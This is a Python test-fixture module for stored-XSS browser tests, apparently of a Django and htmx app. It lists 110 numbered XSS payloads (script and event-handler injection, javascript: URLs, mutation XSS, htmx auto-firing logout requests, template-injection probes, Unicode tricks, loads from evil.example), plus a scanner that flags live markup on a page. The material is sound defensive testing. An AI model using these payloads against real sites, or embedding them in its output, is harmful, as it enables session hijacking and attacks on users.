"""Hostile text for the stored-XSS browser tests: what a person types or a model writes.

Each payload carries its own number N, once, as ``alert(N)`` or in a URL, so a dialog, a blocked
request or a live attribute found on a page names the payload that caused it (``culprits``).
Payloads are one line each (the task form takes one prompt per line) and hold no NUL (refused
before it is stored); the Unicode line separators sit only at a payload's ends, because
``str.splitlines`` splits on them.
"""

from __future__ import annotations

import re

PAYLOADS: list[str] = [
    # --- script elements, and the usual spellings that slip past naive filters ---------------
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "</script><script>alert(4)</script>",
    '"><img src=x onerror=alert(5)>',
    "'><svg/onload=alert(6)>",
    "<a href=javascript:alert(7)>x</a>",
    "[x](javascript:alert(8)) ![y](https://evil.example/8.png)",
    "<div hx-on:click=alert(9)>x</div>",
    "\u2028<script>alert(10)</script>\u2029",
    '<iframe srcdoc="<script>alert(11)</script>"></iframe>',
    '{"a": "</script><script>alert(12)</script>"}',
    '<div hx-get="/logout/?p=13" hx-trigger="load">x</div>',
    "{{7*7}} {% debug %} {# 14 #}",
    "<img src=https://evil.example/15.png>",
    "<ScRiPt>alert(16)</sCrIpT>",
    "<script/src=data:text/javascript,alert(17)></script>",
    "<script src=//evil.example/18.js></script>",
    "<<script>alert(19)//<</script>",
    "<scr<script>ipt>alert(20)</scr</script>ipt>",
    "%3Cscript%3Ealert(21)%3C%2Fscript%3E",
    "&lt;script&gt;alert(22)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(23)&#62;",
    "\\x3cscript\\x3ealert(24)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(25)\\u003c/script\\u003e",
    # --- event handlers on many kinds of element ---------------------------------------------
    "<body onload=alert(26)>",
    "<input autofocus onfocus=alert(27)>",
    "<details open ontoggle=alert(28)><summary>d</summary></details>",
    "<video><source onerror=alert(29)></video>",
    "<audio src=x onerror=alert(30)></audio>",
    "<marquee onstart=alert(31)>m</marquee>",
    "<select autofocus onfocus=alert(32)></select>",
    "<textarea autofocus onfocus=alert(33)></textarea>",
    "<x contenteditable autofocus onfocusin=alert(34)>e</x>",
    "<style onload=alert(35)></style>",
    "<svg><animate onbegin=alert(36) attributeName=x dur=1s></svg>",
    "<img src=x:y onerror=eval(src.slice(2)+'(37)')>",
    # --- script URLs in every attribute that takes a URL -------------------------------------
    "<form><button formaction=javascript:alert(38)>go</button></form>",
    "<form action=javascript:alert(39)><input type=submit value=s></form>",
    '<a href="data:text/html,<script>alert(40)</script>">d</a>',
    '<a href="vbscript:msgbox(41)">v</a>',
    '<a href="jav&#x09;ascript:alert(42)">t</a>',
    '<a href="&#106;avascript:alert(43)">e</a>',
    '<a href=" JaVaScRiPt:alert(44)">c</a>',
    '<iframe src="javascript:alert(45)"></iframe>',
    "<object data=javascript:alert(46)></object>",
    '<embed title=47 src="data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nyk8L3NjcmlwdD4=">',
    '<iframe srcdoc="&lt;img src=x onerror=alert(48)&gt;"></iframe>',
    # --- SVG and MathML: parsing rules change inside foreign content -------------------------
    "<svg><script>alert(49)</script></svg>",
    '<svg><a xlink:href="javascript:alert(50)"><text y=20>s</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(51) /><text y=9>z</text></a>",
    "<math href=javascript:alert(52)>m</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(53)>",
    "<svg><foreignObject><img src=x onerror=alert(54)></foreignObject></svg>",
    # --- mutation XSS: text that changes meaning when serialised and parsed again ------------
    '<noscript><p title="</noscript><img src=x onerror=alert(55)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(56)>">',
    "<template><img src=x onerror=alert(57)></template>",
    "</textarea><script>alert(58)</script>",
    "</title><img src=x onerror=alert(59)>",
    "</style><img src=x onerror=alert(60)>",
    "--><img src=x onerror=alert(61)>",
    "<!-- --!><img src=x onerror=alert(62)> -->",
    "]]><img src=x onerror=alert(63)>",
    "</pre></code><img src=x onerror=alert(64)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(65)>",
    "</option></select><img src=x onerror=alert(66)>",
    # --- breaking out of an attribute: both quotes, a backtick, a bare value -----------------
    '" onmouseover="alert(67)" x="',
    "' autofocus onfocus='alert(68)' x='",
    "` onfocus=alert(69) autofocus x=`",
    '" autofocus onfocus=alert(70) x="',
    '"/><svg onload=alert(71)>',
    "x onfocus=alert(72) autofocus",
    # --- CSS ------------------------------------------------------------------------------
    '<div style="background:url(javascript:alert(73))">c</div>',
    '<div style="width:expression(alert(74))">e</div>',
    "<style>@import url(https://evil.example/75.css);</style>",
    "<link rel=stylesheet href=https://evil.example/76.css>",
    '<p style="background-image:url(https://evil.example/77.png)">b</p>',
    # --- navigation and the document's base URL ----------------------------------------------
    '<meta http-equiv="refresh" content="0;url=javascript:alert(78)">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/79">',
    '<base href="https://evil.example/80/">',
    # --- htmx attributes: would act on their own if text became markup ------------------------
    '<button hx-post="/logout/" hx-trigger="load" hx-vals=\'{"p": 81}\'>x</button>',
    '<div hx-vals=\'js:{p: alert(82)}\' hx-post="/logout/" hx-trigger="load">v</div>',
    '<div hx-headers=\'{"X-CSRFToken": "83"}\' hx-get="/logout/" hx-trigger="load">h</div>',
    '<div hx-on::load="alert(84)">l</div>',
    '<div data-hx-get="/logout/?p=85" data-hx-trigger="load">d</div>',
    '<a hx-get="https://evil.example/86" hx-trigger="load">f</a>',
    # --- Markdown: inline, image, autolink and reference-style links --------------------------
    "[click](JAVASCRIPT:alert(87))",
    '[click]( javascript:alert(88) "t")',
    "![img](javascript:alert(89))",
    "<javascript:alert(90)>",
    "[r91]: javascript:alert(91)",
    "[text 92][r91]",
    "[x 93](data:text/html;base64,PHNjcmlwdD5hbGVydCg5Myk8L3NjcmlwdD4=)",
    "[x](&#106;avascript:alert(94))",
    "[x](<javascript:alert(95)>)",
    "<https://evil.example/96>",
    # --- template syntax of Django, Jinja, JavaScript and client-side frameworks --------------
    "${alert(97)}",
    "{{constructor.constructor('alert(98)')()}}",
    "{% load static %}{{ settings.SECRET_KEY }}{% comment %}99{% endcomment %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{# 100 #}",
    "<%= 7*7 %> #{7*7} [[101]]",
    # --- breaking out of JSON or a string inside a script -----------------------------------
    '{"x": "<!--<script>alert(102)</script>"}',
    '"});alert(103);//',
    "'-alert(104)-'",
    '";alert(105);//',
    # --- Unicode: separators, look-alikes, invisible characters -------------------------------
    "\u2029<img src=x onerror=alert(106)>\u2028",
    "\uff1cscript\uff1ealert(107)\uff1c/script\uff1e",
    "<img src=x one\u200brror=alert(108)>",
    "\ufeff<svg onload=alert(109)>",
    "\u202e<script>alert(110)</script>",
]

HOSTILE = " ".join(PAYLOADS)
# One payload per line, for the places that render Markdown: a reference definition or any other
# block-level syntax takes effect only at the start of a line.
HOSTILE_LINES = "\n".join(PAYLOADS)


# Browser-side checks. An init script that records every Content-Security-Policy violation (a
# blocked inline script or handler means hostile markup reached the page as HTML).
RECORD_CSP = """
window.cspViolations = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
"""
# Anything the payloads would have made live: event handlers, script URLs, frames and plugins,
# inline script, images, navigation and base-URL elements, htmx attributes. Only the elements
# matching ``allowed`` (a CSS selector for the page's own htmx wiring) may carry htmx attributes.
LIVE_MARKUP = r"""(allowed) => {
  const bad = [];
  const scriptUrl = /^(javascript|vbscript|data:text\/html)/;
  const URL_ATTRIBUTES = new Set(["href", "xlink:href", "src", "action", "formaction", "data",
    "poster", "background", "values", "to", "from", "by"]);
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      const value = a.value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
      const htmx = name.startsWith("hx-") || name.startsWith("data-hx-");
      if (name.startsWith("on") || (URL_ATTRIBUTES.has(name) && scriptUrl.test(value))
          || (htmx && !el.matches(allowed))
          || (name === "style" && /url\(|expression/.test(value))) {
        bad.push(`${el.tagName} ${a.name}=${a.value}`);
      }
    }
  }
  const live = "iframe, object, embed, script:not([src]), img, base, meta[http-equiv], "
    + "link[href^='http'], style:not(:empty), animate, set";
  document.querySelectorAll(live).forEach((el) => bad.push(el.outerHTML.slice(0, 120)));
  return bad;
}"""


def number(payload: str) -> int:
    """The payload's own number: its place in PAYLOADS, counted from 1."""
    return PAYLOADS.index(payload) + 1


def mentions(text: str, n: int) -> bool:
    """``n`` appears in ``text`` as a whole number (not as a digit of a longer one)."""
    return re.search(rf"(?<!\d){n}(?!\d)", text) is not None


def culprits(findings: list[str]) -> list[str]:
    """The payloads that a list of findings (dialog messages, URLs, attributes) names."""
    return [p for n, p in enumerate(PAYLOADS, 1) if any(mentions(f, n) for f in findings)]
